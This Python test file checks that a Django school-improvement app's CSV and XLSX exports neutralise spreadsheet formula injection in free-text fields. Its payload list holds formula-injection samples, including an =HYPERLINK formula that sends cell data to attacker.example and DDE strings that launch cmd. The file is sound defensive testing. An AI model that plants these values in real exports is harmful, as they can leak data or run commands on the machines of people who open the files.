"""Text people type never runs as a spreadsheet formula when a table is downloaded.

A value starting with =, +, -, @, a tab or a carriage return is entered where people write
free text (evidence summaries, support requests, the register of expertise); each real export
page is downloaded as CSV and as XLSX, and no cell holding that text starts with such a character.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django_scopes import scope
from openpyxl import load_workbook

from core.exports import FORMULA_STARTS
from interventions.models import Expert
from interventions.services.requests import support_request_submit
from reviews.models import Evidence, EvidenceType

pytestmark = pytest.mark.django_db

MARK = "FORMULA-CANARY"
PAYLOADS = [
    f'=HYPERLINK("http://attacker.example/?"&A1,"{MARK}")',
    f"+1+cmd|' /C calc'!A0 {MARK}",
    f"-2+3+cmd|' /C calc'!A0 {MARK}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    f"\t=1+2 {MARK}",
    f"\r=1+3 {MARK}",
]


def _read(response, fmt: str) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    return [str(cell) for row in sheet.iter_rows(values_only=True) for cell in row if cell is not None]


def _assert_neutralised(cells: list[str], expected: int) -> None:
    marked = [cell for cell in cells if MARK in cell]
    assert len(marked) >= expected, marked
    for cell in marked:
        assert not cell.startswith(FORMULA_STARTS), repr(cell)


@pytest.fixture
def typed_text(trust_a):
    """Each payload typed into evidence, a support request and the register of expertise."""
    with scope(trust=trust_a.trust.pk):
        for index, payload in enumerate(PAYLOADS):
            Evidence.objects.create(
                school=trust_a.schools[0],
                evidence_type=EvidenceType.LEARNING_WALK,
                observed_on=datetime.date(2026, 1, 5) + datetime.timedelta(days=index),
                summary=payload,
            )
            support_request_submit(
                school=trust_a.schools[0],
                actor=trust_a.people["headteacher"],
                area="maths",
                need=payload,
                urgency="medium",
            )
            Expert.objects.create(
                trust=trust_a.trust,
                name=payload,
                role="lead_practitioner",
                home_school=trust_a.schools[0],
                areas=["maths"],
                days_per_term=Decimal("2"),
            )
    return trust_a


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("page", ["evidence-list", "request-list", "register-list"])
def test_typed_text_starting_with_a_formula_character_is_neutralised_in_the_export(typed_text, page, fmt):
    client = typed_text.client_for("executive")
    response = client.get(reverse(page, args=[typed_text.trust.slug]), {"format": fmt})
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    _assert_neutralised(_read(response, fmt), expected=len(PAYLOADS))


def test_the_stored_text_itself_is_kept_as_typed(typed_text):
    # Only the download is changed: the page and the database keep what the person wrote.
    with scope(trust=typed_text.trust.pk):
        assert Evidence.objects.filter(summary=PAYLOADS[0]).exists()
